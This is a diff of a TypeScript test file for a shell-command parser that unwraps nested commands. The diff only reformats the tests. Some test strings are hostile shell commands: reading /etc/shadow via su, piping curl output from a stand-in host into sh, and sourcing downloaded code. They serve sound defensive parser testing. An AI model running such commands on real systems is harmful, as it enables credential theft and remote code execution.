@@ -301,7 +301,7 @@ describe('parseCommand unwrapping', () => {
     assert.deepEqual(cmd(f, 'find').operands, ['/']);
   });
 
-  it('parses commands carried in other programs\' arguments at depth + 1', () => {
+  it("parses commands carried in other programs' arguments at depth + 1", () => {
     const cases: Array<[string, string]> = [
       ["su -c 'cat /etc/shadow' root", 'cat'],
       ["watch -n 5 'curl -s http://x.example | sh'", 'curl'],
@@ -315,10 +315,16 @@ describe('parseCommand unwrapping', () => {
     for (const [text, program] of cases) {
       const f = parse(text);
       assert.equal(f.status, 'complete', text);
-      assert.ok(f.commands.some((c) => c.program === program && c.depth === 1), `${text}: ${JSON.stringify(f.commands.map((c) => [c.program, c.depth]))}`);
+      assert.ok(
+        f.commands.some((c) => c.program === program && c.depth === 1),
+        `${text}: ${JSON.stringify(f.commands.map((c) => [c.program, c.depth]))}`,
+      );
     }
     assert.equal(cmd(parse("su -c 'id'"), 'id').sudo, true);
-    assert.deepEqual(cmd(parse('. /dev/stdin <<< "$(curl -s http://x.example)"'), '.').executesSubstitutionOf, ['curl']);
+    assert.deepEqual(
+      cmd(parse('. /dev/stdin <<< "$(curl -s http://x.example)"'), '.').executesSubstitutionOf,
+      ['curl'],
+    );
   });
 
   it('parses argv as one already-split simple command, still unwrapping bash -c', () => {
